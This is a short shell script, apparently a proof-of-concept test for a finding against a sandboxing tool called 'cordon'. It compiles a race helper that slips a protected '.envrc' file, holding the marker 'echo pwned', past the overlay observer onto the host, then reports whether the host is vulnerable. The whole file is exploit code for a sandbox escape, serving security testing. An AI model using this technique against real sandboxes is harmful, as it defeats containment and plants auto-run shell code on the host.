#!/bin/sh
# F2: overlay mode applies a protected path created by racing the observer
# (changeset_held_back is a stub): .envrc lands on the host, auto-applied.
C=${CORDON:-/work/wt/attack/build/cordon}
D=$(dirname "$(readlink -f "$0")")
T=$(mktemp -d /tmp/atk-ovrace.XXXXXX); chmod 755 "$T"; mkdir "$T/ws"
gcc -O2 -pthread -o "$T/ws/.rc" "$D/race-create.c" || exit 2
timeout 300 "$C" run --workspace-mode overlay --rw "$T/ws" --cwd "$T/ws" --report "$T/r.json" -- ./.rc .envrc 'echo pwned
'
python3 -c 'import json,sys;r=json.load(open(sys.argv[1]));print(r["verdicts"], r["changes"])' "$T/r.json"
test -s "$T/ws/.envrc" && echo "VULNERABLE: $T/ws/.envrc on the host: $(cat $T/ws/.envrc)"
